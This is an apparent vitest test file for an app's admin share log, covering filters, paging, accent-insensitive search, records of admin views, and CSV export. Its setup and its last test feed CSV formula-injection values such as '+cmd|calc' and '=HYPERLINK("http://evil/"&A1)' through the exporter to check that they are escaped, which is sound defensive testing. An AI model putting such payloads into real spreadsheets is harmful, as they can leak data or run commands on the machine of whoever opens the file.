/** The share log for admins: filters, pages, the file, and the trace that a look leaves. */
import papaparse from 'papaparse';
import { beforeAll, expect, it } from 'vitest';
import { adminPostSchema, signInLinkSchema } from '../../shared/admin-api.ts';
import { meSchema, themeSchema } from '../../shared/api.ts';
import { type LogPage, logPageSchema } from '../../shared/log-api.ts';
import { translator } from '../../shared/languages/index.ts';
import { csvRows } from '../../server/reports/share-log-csv.ts';
import { onBothEngines } from './engines.ts';
import { type Caller, event, makeWorld, type Person, type Program, type World } from './world.ts';

onBothEngines('the log', (databases) => {
  let world: World;
  let a: Program;
  let b: Program;
  let camille: Person;
  let theme = '';
  let post = { id: '', variant: '' };
  const page = (query: string, program: Program = a): Promise<LogPage> =>
    world.get(logPageSchema, 'GET', `log?${query}`, { as: program.session });
  const count = async (query: string) => (await page(query)).lines.length;

  beforeAll(async () => {
    ({ world, a, b } = await makeWorld((await databases.migrated()).db));
    camille = await world.join(a.id, '=Camille+"1"', 'ambassador');
    const body = { name: { fr: 'Énergie', en: 'Energy' } };
    theme = (await world.get(themeSchema, 'POST', 'themes', { as: a.session, body })).id;
    const variants = [{ persona: 'expert', network: 'x', language: 'fr', text: 'Le réseau d’Angers' }];
    const draft = { title: 'Chaleur 100%', text: 'Une ÉCOLE se chauffe', link: null, theme, language: 'fr', variants };
    const made = await world.get(adminPostSchema, 'POST', 'posts', { as: a.session, body: draft });
    post = { id: made.id, variant: made.variants[0]?.id ?? '' };
    await world.ask('POST', `posts/${made.id}/publish`, { as: a.session, body: { version: made.version } });
    const share = (n: number, more: object, at: string) =>
      event(camille, n, 'share.inserted', { network: 'x', post: post.id, method: 'editor', ...more }, { at });
    const first = share(1, { variant: post.variant }, '2026-11-01T23:59:59.999Z');
    const published = { share: first.id, network: 'x', post: post.id, confirmed: 'person' };
    await world.push(camille, [
      first,
      event(camille, 2, 'share.published', published),
      share(3, { network: 'linkedin' }, '2026-11-02T00:00:00.000Z'),
      event(camille, 4, 'clip.proposed', { url: 'https://example.org/', title: '+cmd|calc', note: 'n' }),
    ]);
    const stranger = b.ambassador;
    await world.push(stranger, [
      event(stranger, 1, 'share.inserted', { network: 'x', post: post.id, method: 'editor', variant: post.variant }),
    ]);
  });

  it('gives lines with everything an admin asks for', async () => {
    expect((await page('state=published')).lines).toMatchObject([
      {
        kind: 'share',
        state: 'published',
        member: { id: camille.id },
        network: 'x',
        post: { id: post.id, title: 'Chaleur 100%' },
        theme: { id: theme, name: { fr: 'Énergie' } },
        variant: { id: post.variant, persona: 'expert', language: 'fr' },
        at: '2026-11-01T23:59:59.999Z',
      },
    ]);
  });

  it('filters by each of its filters', async () => {
    expect(await count('')).toBe(3);
    expect(await count(`member=${camille.id}`)).toBe(3);
    expect(await count(`member=${b.ambassador.id}`)).toBe(0);
    expect(await count('network=x')).toBe(1);
    expect(await count(`theme=${theme}`)).toBe(2);
    expect(await count('kind=clip')).toBe(1);
    expect(await count('state=inserted')).toBe(1);
    expect(await count('from=2026-11-02T00:00:00.000Z')).toBe(2);
    expect(await count('to=2026-11-02T00:00:00.000Z')).toBe(1);
    expect(await count('from=2026-11-01T23:59:59.999Z&to=2026-11-02T00:00:00.001Z')).toBe(2);
    expect(await count('from=2026-11-01T00:00:00Z&to=2026-11-02T00:00:00Z&network=linkedin')).toBe(0);
  });

  it.each(['limit=1.5', 'limit=0', 'limit=x', 'before=1.5', 'from=2026-11-02', 'to=yesterday'])(
    'refuses %s as a bad request',
    async (query) => {
      for (const path of ['log', 'log.csv'])
        expect((await world.ask('GET', `${path}?${query}`, { as: a.session })).status).toBe(400);
    },
  );

  it('finds words of post, variant and clip without accents or capitals, and takes no sign for a pattern', async () => {
    const found = (text: string) => count(`text=${encodeURIComponent(text)}`);
    expect(await found('ecole CHAUFFE')).toBe(2);
    expect(await found('angers')).toBe(1);
    expect(await found('cmd|calc')).toBe(1);
    expect(await found('100%')).toBe(2);
    expect(await found('1%0')).toBe(0);
    expect(await found('_cole')).toBe(0);
    expect(await found('\\')).toBe(0);
    expect(await found('a\0b')).toBe(0);
  });

  it('finds the words of today, however often the same was asked before', async () => {
    const as = a.session;
    const body = { title: 'Avant', text: 'Un texte', link: null, theme: null, language: 'fr', variants: [] };
    const made = await world.get(adminPostSchema, 'POST', 'posts', { as, body });
    await world.ask('POST', `posts/${made.id}/publish`, { as, body: { version: made.version } });
    const me = await world.join(a.id, 'Wording', 'ambassador');
    await world.push(me, [event(me, 1, 'share.inserted', { network: 'x', post: made.id, method: 'editor' })]);
    const found = async () => [await count('text=avant'), await count('text=apres')];
    expect([await found(), await found()]).toEqual([
      [1, 0],
      [1, 0],
    ]);
    const { version } = await world.get(adminPostSchema, 'GET', `posts/${made.id}`, { as });
    await world.ask('PUT', `posts/${made.id}`, { as, body: { ...body, title: 'Après', version } });
    expect(await found()).toEqual([0, 1]);
  });

  it('pages without a gap or a repeat while new lines come in', async () => {
    const me = await world.join(a.id, 'Paging', 'ambassador');
    const many = (from: number) =>
      Array.from({ length: 7 }, (_, n) =>
        event(me, from + n, 'share.inserted', { network: 'x', post: post.id, method: 'editor' }),
      );
    const events = many(1);
    await world.push(me, events);
    const seen: string[] = [];
    let next: number | null = null;
    do {
      const got: LogPage = await page(`member=${me.id}&limit=3${next === null ? '' : `&before=${next}`}`);
      seen.push(...got.lines.map((line) => line.id));
      if (next === null) await world.push(me, many(8));
      next = got.next;
    } while (next !== null);
    expect(seen).toEqual(events.map((each) => each.id).toReversed());
  });

  it('shows a member who looked at their log by name, one look for a while of paging', async () => {
    const me = await world.join(a.id, 'Seen', 'ambassador');
    const looks = async () => (await world.get(meSchema, 'GET', 'me', { as: me })).looks;
    await page('');
    await page(`member=${me.id}`, b);
    expect(await looks()).toEqual([]);
    await Promise.all([page(`member=${me.id}`), page(`member=${me.id}&before=9`)]);
    expect(await looks()).toEqual([{ by: 'Alpha admin', via: null, at: new Date(world.time).toISOString() }]);
    world.time += 3600_000;
    await (await world.ask('GET', `log.csv?member=${me.id}`, { as: a.session })).text();
    expect(await looks()).toHaveLength(2);
  });

  it('counts a file as a look for each member in it, and for nobody else', async () => {
    const [within, without] = [await world.join(a.id, 'In it', 'ambassador'), await world.join(a.id, 'Not', 'curator')];
    await world.push(within, [event(within, 1, 'share.inserted', { network: 'x', post: post.id, method: 'editor' })]);
    const looks = async (person: Person) => (await world.get(meSchema, 'GET', 'me', { as: person })).looks;
    await page('');
    expect(await looks(within)).toEqual([]);
    await (await world.ask('GET', 'log.csv?network=linkedin', { as: a.session })).text();
    expect(await looks(within)).toEqual([]);
    for (let times = 0; times < 2; times++) await (await world.ask('GET', 'log.csv', { as: a.session })).text();
    expect(await looks(within)).toMatchObject([{ by: 'Alpha admin' }]);
    expect(await looks(without)).toEqual([]);
  });

  it('says who made the link by which the looker came in', async () => {
    const me = await world.join(a.id, 'Behind', 'ambassador');
    const link = async (as: Caller, member: string) => {
      const made = await world.get(signInLinkSchema, 'POST', 'sign-in-codes', { as, body: { member } });
      const answer = await world.ask('POST', 'sign-in', { body: { code: made.link.split('#')[1] } });
      return { cookie: (answer.headers.get('Set-Cookie') ?? '').split(';')[0] ?? '' };
    };
    const look = (as: Caller) => world.get(logPageSchema, 'GET', `log?member=${me.id}`, { as });
    const looks = async () =>
      (await world.get(meSchema, 'GET', 'me', { as: me })).looks.map(({ by, via }) => `${by} via ${via}`).toSorted();
    const other = await link(a.session, a.admin.id);
    await look(other);
    expect(await looks()).toEqual(['Alpha admin via Alpha admin']);
    await look(await link(a.session, a.adminId));
    expect(await looks()).toHaveLength(2);
    expect(await looks()).toContain('Alpha admin via null');
    // One more link for oneself does not hide where the first one came from; an own link is nobody else's.
    world.time += 3600_000;
    await look(await link(other, a.admin.id));
    expect((await looks()).filter((each) => each.endsWith('via Alpha admin'))).toHaveLength(2);
  });

  it('writes a file that a spreadsheet opens and does not run', async () => {
    const answer = await world.ask('GET', 'log.csv?language=fr', { as: a.session });
    expect(answer.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="portevoix-log-2026-11-\d\d\.csv"$/,
    );
    const bytes = new Uint8Array(await answer.arrayBuffer());
    expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    const text = new TextDecoder().decode(bytes);
    expect(text).toMatch(/^\uFEFF?Quand \(UTC\);Reçu \(UTC\);Qui;/);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    const { data, errors } = papaparse.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(errors).toEqual([]);
    expect(data).toHaveLength((await page('limit=200')).lines.length);
    const clip = data.find((row) => row['Quoi'] === 'Page proposée');
    expect(clip).toMatchObject({ Qui: '\'=Camille+"1"', 'Post ou page': "'+cmd|calc", État: 'Proposé' });
    expect(data.at(-1)).toMatchObject({
      Réseau: 'X',
      Thème: 'Énergie',
      Langue: translator('fr')('language.fr'),
      État: 'Publié',
    });
    const english = await world.ask('GET', 'log.csv?network=linkedin', { as: a.session });
    expect(await english.text()).toMatch(/^\uFEFF?When \(UTC\),.*\r\n2026-11-02 00:00:00,.*LinkedIn,Energy,/);
  });

  it('puts every page of a long log into the file', async () => {
    const me = await world.join(a.id, 'Long', 'ambassador');
    const events = Array.from({ length: 1000 }, (_, n) =>
      event(me, n + 1, 'share.inserted', { network: 'x', post: post.id, method: 'editor' }),
    );
    await world.push(me, events);
    const text = await (await world.ask('GET', `log.csv?member=${me.id}`, { as: a.session })).text();
    const ids = text
      .trim()
      .split('\r\n')
      .slice(1)
      .map((row) => row.split(',').at(-1));
    expect(ids).toEqual(events.map((each) => each.id).toReversed());
  });

  it.each([
    ['=HYPERLINK("http://evil/"&A1)\nX', '\'=HYPERLINK("http://evil/"&A1) X'],
    ['=1+1\nfoo', "'=1+1 foo"],
    ['=1+1\u2028foo', "'=1+1 foo"],
    [' =1', "'=1"],
    ['\t=1', "'=1"],
    ['\r\n=1', "'=1"],
    ['\u0000=1', "'=1"],
    ['@x', "'@x"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['＝1', "'＝1"],
    ['\tx', 'x'],
    ['a = b;c, "d"\n\n e', 'a = b;c, "d" e'],
  ])('writes a cell as one line that no spreadsheet runs: %j', (cell, written) => {
    for (const language of ['fr', 'en'] as const) {
      const row = csvRows([['x', cell]], language);
      const { data } = papaparse.parse<string[]>(row, { delimiter: language === 'fr' ? ';' : ',' });
      expect(data[0]).toEqual(['x', written]);
      expect(row.trimEnd()).not.toMatch(/[\r\n]/);
    }
  });
});
